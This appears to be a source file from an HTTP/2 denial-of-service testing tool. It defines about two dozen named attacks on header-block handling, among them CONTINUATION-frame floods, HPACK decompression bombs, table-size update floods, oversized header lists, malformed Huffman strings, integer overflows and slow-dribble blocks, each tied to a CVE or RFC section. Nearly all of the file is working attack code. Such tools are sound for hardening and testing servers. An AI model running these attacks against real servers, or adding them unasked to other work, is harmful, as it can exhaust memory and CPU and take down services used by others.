import { continuation, headerBlock, headers, type Octets, settings } from '../wire/frames'
import {
  huffmanText,
  indexed,
  integer,
  joined,
  literal,
  NEWEST,
  repeated,
  tableSize,
} from '../wire/header-blocks'
import type { Attack } from './attack'
import { flood, floodOfStreams, hold, streams } from './floods'
import type { Hostile } from './hostile'

/*
 * Header blocks that are small on the wire and large in memory, or expensive to decode.
 */

/** The largest field that the table of 4,096 octets holds beside its overhead. */
const COOKIE = 'x'.repeat(3900)
/** How many of them 65,536 octets of header list allow. */
const COOKIES = 15

/**
 * Requests of which each has another path: a server that keeps what it has decoded does not know it yet.
 *
 * @param path what it begins with
 */
function everNew(host: Hostile, path = '/'): (streamId: number) => Octets {
  // By the static table: GET, the scheme, the authority `a`, and the name of a path.
  const scheme = host.url.protocol === 'https:' ? 0x87 : 0x86
  const begin = Uint8Array.of(0x82, scheme, 0x01, 1, 0x61, 0x04)
  return (streamId) => {
    const text = new TextEncoder().encode(`${path}?${streamId.toString(36)}`)
    return joined([begin, Uint8Array.of(text.length), text])
  }
}

/** The first request puts the cookie into the table; the others name it so many times. */
function bomb(host: Hostile, path = '/'): (streamId: number) => readonly Octets[] {
  const request = everNew(host, path)
  const first = literal('cookie', COOKIE, true)
  const next = repeated(indexed(NEWEST), COOKIES)
  return (streamId) =>
    headerBlock(streamId, joined([request(streamId), streamId === 1 ? first : next]))
}

/** Requests on one connection after the other. Behind what every request has stands what is given. */
function requests(
  name: string,
  advisory: string,
  sends: string,
  fields: Octets | ((streamId: number) => Octets),
  before: Octets = new Uint8Array(0),
): Attack {
  return {
    name,
    advisory,
    sends,
    async run(host) {
      const connection = await host.open()
      const request = everNew(host)
      await floodOfStreams(host, connection, (streamId) =>
        headerBlock(
          streamId,
          joined([
            before,
            request(streamId),
            fields instanceof Uint8Array ? fields : fields(streamId),
          ]),
        ),
      )
    },
  }
}

function continuationFlood(form: string, sends: string, octets: number): Attack {
  return {
    name: `continuation-${form}`,
    advisory: 'CVE-2024-27316',
    sends,
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request(), { whole: false }))
      // A literal name that never ends, so that every octet is one of it.
      await flood(host, connection, continuation(1, new Uint8Array(octets).fill(0x61)), {
        burst: 7,
        perSecond: 0,
      })
      await hold(connection)
    },
  }
}

/** A block in pieces: HEADERS, and CONTINUATION of an octet each until the last. */
function inPieces(streamId: number, block: Octets, pieces: number): Octets[] {
  const rest = block.length - pieces
  return [
    headers(streamId, block.subarray(0, rest), { whole: false }),
    ...Array.from({ length: pieces }, (_, index) =>
      continuation(streamId, block.subarray(rest + index, rest + index + 1), index === pieces - 1),
    ),
  ]
}

export const HEADER_BLOCKS: readonly Attack[] = [
  continuationFlood('empty', 'A header block of empty CONTINUATION frames without end.', 0),
  continuationFlood('small', 'A header block of CONTINUATION frames of one octet.', 1),
  continuationFlood('large', 'A header block of CONTINUATION frames of 8 KiB.', 8192),
  {
    name: 'continuation-few',
    advisory: 'CVE-2024-27316',
    sends: 'Requests whose header blocks have eight CONTINUATION frames of one octet.',
    async run(host) {
      const request = everNew(host, '/a-longer-path')
      await floodOfStreams(host, await host.open(), (streamId) =>
        inPieces(streamId, request(streamId), 8),
      )
    },
  },
  {
    name: 'hpack-bomb',
    advisory: 'CVE-2016-6581',
    sends: 'Requests of 40 octets whose 15 indexed cookies of 3,900 octets decode to 58 KB.',
    async run(host) {
      await floodOfStreams(host, await host.open(), bomb(host))
    },
  },
  {
    name: 'hpack-bomb-pinned',
    advisory: 'CVE-2016-6581',
    sends:
      'Requests with 58 KB of indexed cookies on 127 streams with windows of zero, then silence.',
    async run(host) {
      const connection = await host.open({ window: 'none' })
      await connection.send(...streams(127, bomb(host)))
      await hold(connection)
    },
  },
  {
    name: 'hpack-bomb-slow-handlers',
    advisory: 'CVE-2016-6581',
    sends: 'Requests with 58 KB of indexed cookies on 127 streams, to handlers that take 20 s.',
    needs: ['application', 'waiting-handlers'],
    async run(host) {
      const connection = await host.open()
      await connection.send(...streams(127, bomb(host, '/slow')))
      await hold(connection)
    },
  },
  requests(
    'cookie-crumbs',
    'RFC 9113 section 8.2.3',
    'Requests with 1,500 cookie crumbs of one octet, indexed.',
    (streamId) => (streamId === 1 ? literal('cookie', 'a', true) : repeated(indexed(NEWEST), 1500)),
  ),
  {
    name: 'repeated-heads',
    advisory: 'RFC 7541 section 7.3',
    sends: 'Four different requests of 58 KB of indexed cookies, several times, then silence.',
    async run(host) {
      const connection = await host.open()
      const make = bomb(host)
      const heads = [0, 1, 2, 3].map((shape) =>
        joined([host.request(`/${shape}`), repeated(indexed(NEWEST), COOKIES)]),
      )
      await connection.send(
        ...streams(17, (streamId) =>
          streamId === 1 ? make(1) : headers(streamId, heads[(streamId >> 1) % 4]!),
        ),
      )
      await hold(connection)
    },
  },
  requests(
    'table-size-updates',
    'RFC 7541 section 7.3',
    'Requests whose blocks begin with 2,000 updates of the table size.',
    new Uint8Array(0),
    repeated(joined([tableSize(0), tableSize(4096)]), 1000),
  ),
  requests(
    'table-evictions',
    'RFC 7541 section 7.3',
    'Requests that empty the table by two updates of its size, and put 100 entries into it.',
    repeated(literal('a', '', true), 100),
    joined([tableSize(0), tableSize(4096)]),
  ),
  {
    name: 'table-size-settings',
    advisory: 'RFC 7541 section 7.3',
    sends: "SETTINGS of ever other sizes of the server's table, each with a request.",
    async run(host) {
      const block = host.request()
      const sizes = [0, 4096].map((size) => settings([[1, size]]))
      await floodOfStreams(
        host,
        await host.open(),
        (streamId) => [sizes[0]!, sizes[1]!, headers(streamId, block)],
        { burst: 100, perSecond: 30 },
      )
    },
  },
  requests('new-paths', 'CWE-400', 'Requests of 20 octets with ever new paths.', new Uint8Array(0)),
  requests(
    'large-header-lists',
    'CVE-2016-1544',
    'Requests with header lists of 60 KB, in literals.',
    joined(Array.from({ length: 60 }, (_, index) => literal(`f${index}`, COOKIE.slice(0, 950)))),
  ),
  requests(
    'too-large-header-lists',
    'RFC 9113 section 10.5.1',
    'Requests with header lists of 120 KB.',
    joined(Array.from({ length: 30 }, (_, index) => literal(`f${index}`, COOKIE))),
  ),
  requests(
    'field-count',
    'RFC 9113 section 10.5.1',
    'Requests with 2,000 fields of three octets.',
    repeated(literal('a', ''), 2000),
  ),
  requests(
    'empty-names',
    'CVE-2019-9516',
    'Requests with 2,000 fields of neither name nor value.',
    repeated(Uint8Array.of(0x00, 0x80, 0x80), 2000),
  ),
  requests(
    'huffman-long-codes',
    'RFC 7541 section 7.4',
    'Requests with 14 KB of the longest Huffman code that a field may have.',
    // 28 bits each, of which all but the last are ones: the character U+00F9.
    joined([
      Uint8Array.of(0, 1, 0x61),
      huffmanText(repeated(Uint8Array.of(0xff, 0xff, 0xff, 0xef, 0xff, 0xff, 0xfe), 2000)),
    ]),
  ),
  requests(
    'huffman-invalid',
    'RFC 7541 section 5.2',
    'Requests with the Huffman code that ends a string inside of it.',
    joined([Uint8Array.of(0, 1, 0x61), huffmanText(new Uint8Array(64).fill(0xff))]),
  ),
  requests(
    'integer-overflow',
    'RFC 7541 section 7.4',
    'Header blocks with integers of ever more octets.',
    repeated(Uint8Array.of(0xff), 2000),
  ),
  {
    name: 'half-blocks',
    advisory: 'CVE-2016-8740',
    sends: 'Half a header block of 100 KB, then silence.',
    async run(host) {
      const connection = await host.open()
      const fields = Array.from({ length: 25 }, (_, index) => literal(`f${index}`, COOKIE))
      const frames = headerBlock(1, joined([host.request(), ...fields]))
      await connection.send(...frames.slice(0, -1))
      await hold(connection)
    },
  },
  {
    name: 'block-dribble',
    advisory: 'CVE-2016-8740',
    sends: 'A header block by CONTINUATION frames of one octet, one each 100 ms.',
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request(), { whole: false }))
      const octet = continuation(1, integer(7, 0x80, 2))
      while (await host.sleep(100)) if (!(await connection.send(octet))) return
    },
  },
]
